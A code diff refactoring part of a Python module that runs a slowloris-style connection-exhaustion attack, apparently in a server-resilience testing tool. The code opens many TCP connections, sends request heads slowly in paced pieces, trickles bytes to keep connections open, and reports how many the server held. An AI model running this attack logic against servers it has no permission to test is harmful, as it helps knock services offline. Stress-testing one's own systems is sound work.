@@ -2,10 +2,11 @@
 
 import asyncio
 from collections.abc import Sequence
-from contextlib import AsyncExitStack, suppress
+from contextlib import suppress
 
 from penstock.proofs.hostile.attacks.attack import AttackOver, AttackRun, Pace
 from penstock.proofs.hostile.corpus.http_requests import COMPLETIONS
+from penstock.proofs.hostile.wire import CONNECTION_ERRORS
 
 Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]
 
@@ -44,35 +45,37 @@ def _head(length: int) -> bytes:
 
 async def _hold_connections(run: AttackRun, firsts: Sequence[bytes], *, trickle: bytes) -> None:
     """Open a connection for each of `firsts`, send it, and then `trickle` at intervals until the run is over."""
-    async with AsyncExitStack() as stack:
-        connections: list[Connection] = []
-        pace = Pace(SENT_PER_S)
-        with suppress(AttackOver):
-            for first in firsts:
-                try:
-                    connection = await stack.enter_async_context(run.tcp())
-                    connections.append(connection)
-                    await _send_first(run, connection[1], first, pace)
-                except OSError:
-                    continue  # counted as closed below
-        while not run.is_over:
-            for reader, writer in connections:
-                if trickle and not (reader.at_eof() or writer.is_closing()):
-                    writer.write(trickle)
-                    run.report.sent += 1
-            await asyncio.sleep(min(BYTE_INTERVAL_S, run.left_s))
-        held = [connection for connection in connections if not await _is_closed(connection)]
-        run.report.findings[HELD] = len(held)
-        run.report.cut += len(connections) - len(held)
+    pace, run.report.findings[HELD] = Pace(SENT_PER_S), 0
+    async with asyncio.TaskGroup() as group:
+        for first in firsts:
+            group.create_task(_hold_connection(run, first, trickle, pace))
+
+
+async def _hold_connection(run: AttackRun, first: bytes, trickle: bytes, pace: Pace) -> None:
+    with suppress(AttackOver, *CONNECTION_ERRORS):
+        async with run.tcp() as connection:
+            reader, writer = connection
+            with suppress(*CONNECTION_ERRORS):
+                await _send_first(run, writer, first, pace)
+                while not (run.is_over or reader.at_eof() or writer.is_closing()):
+                    if trickle:
+                        writer.write(trickle)
+                        run.report.sent += 1
+                    await asyncio.sleep(min(BYTE_INTERVAL_S, run.left_s))
+            is_closed = await _is_closed(connection)
+            run.report.cut += is_closed
+            run.report.findings[HELD] += not is_closed
 
 
 async def _send_first(run: AttackRun, writer: asyncio.StreamWriter, first: bytes, pace: Pace) -> None:
     for start in range(0, len(first), PIECE_BYTES):
+        if run.is_over:
+            return
         piece = first[start : start + PIECE_BYTES]
         await pace.wait(len(piece))
         writer.write(run.count_sent(piece))
         with suppress(TimeoutError):
-            async with asyncio.timeout(1.0):  # a server that does not read
+            async with asyncio.timeout(max(0.01, run.left_s)):  # a server that does not read holds the piece up
                 await writer.drain()
 
 
